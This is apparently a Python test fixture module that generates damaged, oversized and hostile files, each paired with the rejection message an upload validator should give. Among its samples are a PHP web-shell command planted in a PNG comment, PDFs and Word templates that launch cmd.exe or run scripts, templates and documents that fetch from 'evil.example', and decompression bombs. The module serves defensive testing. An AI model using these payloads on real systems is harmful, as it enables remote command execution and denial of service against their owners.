"""Files that somebody made to do harm, or that broke on their way; each with a part of the sentence that it gets."""

from __future__ import annotations

import zlib
from collections.abc import Iterator
from functools import cache
from io import BytesIO

from PIL import Image, PngImagePlugin

from tests.core.exchange.pictures.drawn import (
    WORD,
    archive,
    chunk,
    font,
    open_document,
    packed_objects,
    pdf,
    picture,
    png,
    svg,
    tall,
    woff,
    word,
)
from tests.core.exchange.pictures.hostile_drawings import hostile_drawings

MEBIBYTE = 1024 * 1024
ACT, FETCH = "contains a program", "fetches something from elsewhere"
HEAD = (64).to_bytes(4, "big") * 2 + b"\x08\x02\0\0\0"
ZIP = archive({"geheim.txt": "geheim"})
EXTERNAL = '<Relationship Id="r1" Type="http://x.example/{}" Target="http://evil.example/" TargetMode="External"/>'


def _bursting_png() -> bytes:
    """Return 40 megapixels of which only the file is small: a hundred bytes for each megabyte."""
    side = 6_300
    inflated = zlib.compress(bytes((side * 3 + 1) * side), 1)
    return png((b"IHDR", side.to_bytes(4, "big") * 2 + b"\x08\x02\0\0\0"), (b"IDAT", inflated), (b"IEND", b""))


def _text_bomb() -> bytes:
    packed = zlib.compress(bytes(64 * MEBIBYTE), 1)
    return png((b"IHDR", HEAD), (b"zTXt", b"Comment\0\0" + packed), (b"IDAT", b""), (b"IEND", b""))


def _profile_bomb() -> bytes:
    packed = zlib.compress(bytes(64 * MEBIBYTE), 1)
    return png((b"IHDR", HEAD), (b"iCCP", b"icc\0\0" + packed), (b"IDAT", b""), (b"IEND", b""))


def _many_chunks() -> bytes:
    return png((b"IHDR", HEAD)) + chunk(b"tEXt", b"a\0b") * 1_000_000 + chunk(b"IEND", b"")


def _many_frames(count: int = 5_000) -> bytes:
    frame = b"\x21\xf9\x04\0\x01\0\0\0" + b"\x2c" + bytes(4) + b"\x01\0\x01\0\0" + b"\x02\x02\x44\x01\0"
    return b"GIF89a\x01\0\x01\0\x80\0\0" + bytes(6) + frame * count + b";"


@cache
def _many_scans(count: int) -> bytes:
    """Return a progressive JPEG in which one scan comes again and again; each costs another pass over all points."""
    whole = picture((6_000, 6_000), "JPEG", progressive=True)
    last = whole.rindex(b"\xff\xda")
    return whole[:last] + whole[last:-2] * count + b"\xff\xd9"


def _with_exif_loop() -> bytes:
    exif = b"Exif\0\0MM\0*\0\0\0\x08\0\x01\x87\x69\0\x04\0\0\0\x01\0\0\0\x08\0\0\0\x08"
    whole = picture(kind="JPEG")
    return whole[:2] + b"\xff\xe1" + (len(exif) + 2).to_bytes(2, "big") + exif + whole[2:]


def damaged_pictures() -> Iterator[tuple[str, bytes, str]]:
    """Pictures that are broken, or say of themselves what is not true."""
    for kind in ("PNG", "JPEG", "WEBP", "GIF"):
        whole = picture(kind=kind)
        yield f"half a {kind}", whole[: len(whole) // 2], "is damaged"
        yield f"the first bytes of a {kind}", whole[:20], "is damaged"
    for kind in ("png", "gif", "jpeg", "webp"):
        yield f"a huge {kind}", tall(kind, 16_000), "has too many points"
    yield "a png of four thousand million points a side", tall("png", 0xFFFFFFFF), "has too many points"
    yield "a png of no points", tall("png", 0), "is damaged"
    yield "a png without points", png((b"IHDR", HEAD), (b"IEND", b"")), "is damaged"
    yield "a png with a bomb of text", _text_bomb(), "is damaged"
    yield "a gif of five thousand frames", _many_frames(), "moves for too long"
    yield "a gif that never ends", _many_frames(1)[:-3], "is damaged"
    yield "an empty file", b"", "is empty"


def heavy_pictures() -> Iterator[tuple[str, bytes, str]]:
    """Pictures that ask much of the machine; shown or refused, but in time."""
    yield "a png of a million pieces", _many_chunks(), "is damaged"
    yield "a png that bursts", _bursting_png(), "|"
    yield "a png with a bomb for a profile", _profile_bomb(), "|"
    yield "a jpeg of nine hundred scans", _many_scans(900), "is damaged"
    yield "a jpeg of eighty scans", _many_scans(80), "could not be read in time"
    yield "a jpeg whose facts go round in circles", _with_exif_loop(), "|"


def double_files() -> Iterator[tuple[str, bytes, str]]:
    """Two files in one."""
    two = "is two kinds of file in one"
    page = b"<script>alert(1)</script>"
    for kind in ("PNG", "GIF", "WEBP", "JPEG"):
        yield f"a {kind} with an archive behind it", picture(kind=kind) + ZIP, two
        yield f"a {kind} with a page behind it", picture(kind=kind) + page, two
    yield "a png with a program behind it", picture() + b"MZ" + bytes(range(1, 200)), two
    yield "a gif that is a pdf, too", picture(kind="GIF") + b"%PDF-1.7\n", two
    yield "a jpeg that is a pdf, too", picture(kind="JPEG", comment=b"%PDF-1.7"), two
    told = PngImagePlugin.PngInfo()
    told.add_text("Comment", "<?php system($_GET[1]); ?>")
    yield "a png with a program in its text", picture(pnginfo=told), two
    yield "a pdf with an archive behind it", pdf() + ZIP, two
    yield "a pdf with a page behind it", pdf() + page, two
    yield "a font with an archive behind it", font() + ZIP, two
    yield "a drawing with a pdf in its first lines", svg().replace(b"<defs>", b"<!-- %PDF-1.7 --><defs>"), two
    yield "two templates in one", word(mimetype="application/vnd.oasis.opendocument.text"), two


def hostile_documents() -> Iterator[tuple[str, bytes, str]]:
    """PDF files, fonts and templates that act or fetch, or are not what they say."""
    yield from _pdf_files()
    yield from _fonts()
    yield from _templates()


def _pdf_files() -> Iterator[tuple[str, bytes, str]]:
    script = b"<</S/JavaScript/JS(app.alert(1))>>"
    yield "a pdf with a script", pdf(b"3 0 obj\n" + script + b"\nendobj\n"), ACT
    yield "a pdf with a script in escapes", pdf(b"3 0 obj\n<</S/J#61vaScript>>\nendobj\n"), ACT
    yield "a pdf with a packed script", pdf(packed_objects(b"3 0 " + script)), ACT
    yield "a pdf that starts a program", pdf(b"3 0 obj\n<</S/Launch/F(cmd.exe)>>\nendobj\n"), ACT
    yield "a pdf with a file in it", pdf(trailer=b"/Names<</EmbeddedFiles 4 0 R>>"), ACT
    yield "a pdf that opens another", pdf(b"3 0 obj\n<</S/GoToR/F(other.pdf)>>\nendobj\n"), FETCH
    hidden = packed_objects(b"3 0 " + script).replace(b"/ObjStm", b"/O#62jStm")
    yield "a pdf that hides where its objects lie", pdf(hidden), ACT
    yield "a pdf whose points come from elsewhere", pdf(b"3 0 obj\n<</F(a)/FFilter/FlateDecode>>\nendobj\n"), FETCH
    yield "a protected pdf", pdf(b"3 0 obj\n<</Filter/Standard>>\nendobj\n", b"/Encrypt 3 0 R"), "with a password"
    yield "a pdf whose objects burst", pdf(packed_objects(bytes(33 * MEBIBYTE))), "beyond measure"
    unseen = packed_objects(b"3 0 " + script).replace(b"/FlateDecode", b"[/LZWDecode/FlateDecode]")
    yield "a pdf whose objects are packed twice", pdf(unseen), "is damaged"
    yield "half a pdf", pdf()[:60], "is damaged"


def _fonts() -> Iterator[tuple[str, bytes, str]]:
    yield "half a font", font()[:100], "is damaged"
    yield "a font without letters", font(without=b"cmap"), "is damaged"
    yield "a font without a head", font(without=b"head"), "is damaged"
    yield "a web font that bursts", woff(declared=200 * MEBIBYTE), "beyond measure|is damaged"
    yield "half a web font", woff()[:-5], "is damaged"
    yield "several fonts", b"ttcf" + bytes(60), "holds several fonts"


def _templates() -> Iterator[tuple[str, bytes, str]]:
    yield "a template with macros", word(word__vbaProject_bin=b"\xd0\xcf\x11\xe0"), ACT
    yield "a template that says it has macros", word(WORD + ".macroEnabled"), ACT
    yield "a template that fetches its template", word(relations=EXTERNAL.format("attachedTemplate")), FETCH
    order = "<w:r><w:instrText>{}</w:instrText></w:r><w:r><w:instrText>{}</w:instrText></w:r>"
    yield "a template that starts a program", word(word__a_xml=order.format("DDE", "AUTO c:\\cmd.exe")), ACT
    yield "a template that fetches a text", word(word__a_xml='<w:fldSimple w:instr=" INCLUDETEXT x"/>'), FETCH
    yield (
        "a template whose button starts a program",
        word(ppt__a_xml='<a:hlinkClick action="ppaction://program"/>'),
        ACT,
    )
    yield "a template with a link to another table", word(xl__externalLinks__a_xml="<a/>"), ACT
    yield "a template with a definition", word(word__a_xml='<!DOCTYPE a [<!ENTITY b "c">]><a/>'), "definitions"
    yield "a template that bursts", word(word__a_xml="<a/>" + " " * 20 * MEBIBYTE), "beyond measure"
    yield "an open document with macros", open_document(Basic__Standard__a_xml="<a/>"), ACT
    event = '<script:event-listener xlink:href="vnd.sun.star.script:a.b?language=Basic"/>'
    yield "an open document that waits for an event", open_document(event), ACT
    fetched = '<draw:image xlink:href="http://evil.example/a.png"/>'
    yield "an open document that fetches a picture", open_document(fetched), FETCH
    keyed = "<?xml version='1.0'?><manifest><encryption-data/></manifest>"
    yield "a protected open document", open_document(META_INF__manifest_xml=keyed), "with a password"
    yield "an archive", ZIP, "is an archive"
    yield "an open document of another kind", open_document(kind="database"), "is an archive"
    yield "an old document", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "in an old format"


def strangers() -> Iterator[tuple[str, bytes, str]]:
    """Files of kinds that are not kept."""
    for kind in ("TIFF", "BMP"):
        written = BytesIO()
        Image.new("RGB", (9, 9)).save(written, kind)
        yield kind, written.getvalue(), "of a kind that platforms do not take"
    yield "a photograph of a telephone", b"\0\0\0\x20ftypheic" + bytes(40), "of a kind that platforms do not take"
    yield "a working file", b"8BPS\0\x01" + bytes(40), "working file of a design program"
    yield "text", b"no picture at all", "is no file that can be kept here"
    yield "a page of the web", b"<!doctype html><p>Hello</p>", "is no file that can be kept here"
    page = b'<!doctype html><html><svg xmlns="http://www.w3.org/2000/svg"></svg></html>'
    yield "a page of the web with a drawing in it", page, "is no file that can be kept here"
    yield "a program", b"\x7fELF" + bytes(60), "is no file that can be kept here"


def everything() -> dict[str, tuple[bytes, str]]:
    """Return all of them by name, with a pattern of the sentence; "|" where a file may also pass."""
    kinds = (damaged_pictures, double_files, hostile_drawings, hostile_documents, strangers)
    return {name: (data, sentence) for kind in kinds for name, data, sentence in kind()}
